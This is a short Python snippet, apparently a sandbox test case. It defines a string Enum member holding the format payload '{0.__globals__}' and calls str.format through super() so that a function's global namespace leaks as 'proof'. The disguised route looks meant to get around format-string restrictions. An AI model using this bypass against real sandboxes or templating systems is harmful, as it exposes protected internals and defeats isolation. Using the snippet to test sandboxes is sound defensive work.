from enum import Enum
class S(str, Enum):
    A = "{0.__globals__}"
    def go(self, x):
        return super().format(x)
def attack():
    return {"proof": S.A.go(attack)}
